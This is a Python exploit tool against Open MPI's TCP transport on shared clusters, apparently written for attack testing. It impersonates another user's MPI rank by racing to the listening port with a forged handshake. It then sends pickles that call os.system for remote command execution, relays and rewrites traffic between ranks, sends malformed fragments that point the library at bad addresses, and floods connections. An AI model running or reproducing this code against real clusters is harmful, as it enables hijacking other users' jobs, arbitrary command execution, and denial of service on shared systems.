"""Speak as one rank of another user's stage to a rank on another node, over Open MPI's TCP.

A stand-alone program for tests of attacks. It is accepted only on the node of the rank that it
speaks as, since ranks compare addresses. All else that it needs is public: the job's id, the nodes'
addresses, and that ranks listen on the first free port from 1024 on. It connects as soon as the
target listens there. So it is taken for the rank, and the rank's own connection, which comes later,
is closed.

usage: inject.py TARGET JOB RANK run COMMAND
       inject.py TARGET JOB RANK relay OLD=NEW...
       inject.py TARGET JOB RANK send put|source|ack
       inject.py TARGET JOB RANK knock

``run`` answers each message of the target with one of the same kind, a Python pickle that runs
COMMAND where it is read. ``relay`` is started on both nodes of a stage, with the other as TARGET.
Together the two pass on all that the ranks send to each other, and replace OLD by NEW in what they
receive from TARGET. ``send`` sends what the MPI library uses without a check: an address to write
to, the number of a rank that there is not, or the address of a request. ``knock``, from any node,
connects and sends one byte, again and again, as long as the target listens.
"""

from __future__ import annotations

import os
import pickle
import socket
import struct
import sys
import threading
import time
from contextlib import suppress

#: Where ranks listen. They pass over ports that other programs use, or that the kernel keeps for a
#: minute after a rank ended.
PORTS = range(1024, 1088)
#: Seconds until the target must listen, and seconds of silence after which the stage is over.
START_PATIENCE, SILENCE = 60, 10
#: Where the relay of rank 0 waits for the other.
RELAY_PORT = 9876

# btl_tcp_endpoint.h: the name of the process, which is a job and a rank, and a magic string.
HANDSHAKE = struct.Struct("=II16s")
MAGIC = b"OPAL-TCP-BTL"
# btl_tcp_hdr.h: what follows (0x41: a message to be matched), how (1: as it is), count, size.
FRAGMENT = struct.Struct("=BBHI")
MATCHED, SEND = 0x41, 1
# pml_ob1_hdr.h: 0x41 again, flags, communicator, source, tag, number of the message.
MATCH = struct.Struct("=BBHiiH")
# btl.h: where to write, and how much. pml_ob1_hdr.h: the addresses of a request here and there.
SEGMENT, ACK = struct.Struct("=QQ"), struct.Struct("=BB6xQQQQ")
PUT, ACKNOWLEDGED = 2, 0x45
WRONG_ADDRESS = 0x41414000
#: The longest message that is not a pickle, but says how long the next one is.
LENGTH_SIZE = 8


def process_job(job: int) -> int:
    """Return the job that Open MPI derives from PMIx's name for the job's first step: a hash."""
    value = 0
    for byte in f"slurm.pmix.{job}.0".encode():
        value = (value + byte) * 1025 & 0xFFFFFFFF
        value ^= value >> 6
    value = value * 9 & 0xFFFFFFFF
    value ^= value >> 11
    return value * 32769 & 0xFFFFFFFF & ~0x8000


def connect(host: str, ports: range) -> socket.socket:
    """Return a connection to the first of the ports that listens, as soon as one does."""
    deadline = time.monotonic() + START_PATIENCE
    while time.monotonic() < deadline:
        for port in ports:
            try:
                return socket.create_connection((host, port), 1)
            except OSError:
                continue
        time.sleep(0.0005)
    sys.exit(f"{host} does not listen")


def enter(target: str, job: int, rank: int) -> socket.socket:
    """Return a connection on which the target takes this process for the rank."""
    connection = connect(target, PORTS)
    connection.settimeout(SILENCE)
    answer = b""
    with suppress(ConnectionError):
        connection.sendall(HANDSHAKE.pack(process_job(job), rank, MAGIC))
        answer = connection.recv(HANDSHAKE.size, socket.MSG_WAITALL)
    if len(answer) < HANDSHAKE.size or MAGIC not in answer:
        say("not accepted")
        sys.exit(1)
    say(f"accepted as rank {rank}")
    return connection


class Command:
    """What runs a shell command where its pickle is read."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self._command,)


def inject(connection: socket.socket, rank: int, command: str) -> None:
    """Answer each message of the target with one of the same kind, from ``rank``."""
    text = pickle.dumps(Command(command))
    while header := connection.recv(FRAGMENT.size, socket.MSG_WAITALL):
        kind, _, _, size = FRAGMENT.unpack(header)
        message = connection.recv(size, socket.MSG_WAITALL)
        if kind != MATCHED:
            continue
        _, flags, communicator, _, tag, number = MATCH.unpack_from(message)
        # What is as short as a length is one; a barrier's message is empty.
        length = size - MATCH.size
        short = len(text).to_bytes(LENGTH_SIZE, "little")[:length]
        body = text if length > LENGTH_SIZE else short
        answer = MATCH.pack(MATCHED, flags, communicator, rank, tag, number) + body
        connection.sendall(FRAGMENT.pack(MATCHED, SEND, 0, len(answer)) + answer)
        say(f"answered message {number} with {len(body)} bytes")


def send(connection: socket.socket, what: str) -> None:
    """Send a fragment that the target's MPI library cannot stand, and wait for the end."""
    if what == "put":
        segment = SEGMENT.pack(WRONG_ADDRESS, 8)
        connection.sendall(FRAGMENT.pack(MATCHED, PUT, 1, 0) + segment + bytes(8))
    elif what == "source":
        message = MATCH.pack(MATCHED, 0, 0, 1 << 30, -10, 1) + bytes(8)
        connection.sendall(FRAGMENT.pack(MATCHED, SEND, 0, len(message)) + message)
    else:
        message = ACK.pack(ACKNOWLEDGED, 0, WRONG_ADDRESS, WRONG_ADDRESS, 0, 0)
        connection.sendall(FRAGMENT.pack(ACKNOWLEDGED, SEND, 0, len(message)) + message)
    say(f"sent {what}")
    while connection.recv(1 << 20):
        pass


def knock(host: str) -> None:
    """Connect to the rank on ``host`` and send one byte, as long as it listens."""
    first = connect(host, PORTS)
    port, count = first.getpeername()[1], 0
    first.close()
    with suppress(ConnectionRefusedError):
        while True:
            with (
                socket.create_connection((host, port), SILENCE) as connection,
                suppress(ConnectionResetError, BrokenPipeError),
            ):
                connection.send(b"x")
                count += 1
                connection.recv(1)
    say(f"knocked {count} times")


def meet(target: str, rank: int) -> socket.socket:
    """Return the connection to the other relay, which runs on the target's node."""
    if rank:
        return connect(target, range(RELAY_PORT, RELAY_PORT + 1))
    with socket.create_server(("", RELAY_PORT)) as server:
        return server.accept()[0]


def relay(connection: socket.socket, peer: socket.socket, changes: list[list[bytes]]) -> None:
    """Pass on what the target sends, changed, and what the other relay received."""
    threading.Thread(target=pass_on, args=(peer, connection, []), daemon=True).start()
    pass_on(connection, peer, changes)


def pass_on(source: socket.socket, sink: socket.socket, changes: list[list[bytes]]) -> None:
    """Pass on bytes until the source ends."""
    while data := source.recv(1 << 20):
        for old, new in changes:
            if old in data:
                data = data.replace(old, new)
                say(f"replaced {old.decode()}")
        sink.sendall(data)


def say(text: str) -> None:
    print(text, flush=True)


def main() -> None:
    target, job, rank, act, *words = sys.argv[1:]
    peer = meet(target, int(rank)) if act == "relay" else None
    say("ready")
    if act == "knock":
        knock(target)
        return
    try:
        connection = enter(target, int(job), int(rank))
        if peer:
            relay(connection, peer, [word.encode().split(b"=") for word in words])
        elif act == "send":
            send(connection, words[0])
        else:
            inject(connection, int(rank), words[0])
    except OSError as error:
        say(f"ended: {error}")


if __name__ == "__main__":
    main()
